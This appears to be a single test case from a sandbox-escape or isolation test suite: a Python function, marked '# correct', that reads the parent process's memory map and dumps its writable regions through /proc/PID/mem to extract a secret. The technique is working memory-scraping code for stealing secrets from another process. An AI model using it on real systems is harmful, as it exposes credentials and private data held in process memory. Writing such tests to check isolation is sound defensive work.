"""Goal: a secret of the parent process comes out, read through /proc/PID/mem."""
# correct


@attempt
def look():
    parent = os.getppid()
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in maps:
            low, high = (int(word, 16) for word in line.split()[0].split("-"))
            if "rw" in line and high - low < 1 << 26:
                memory.seek(low)
                say(memory.read(high - low))
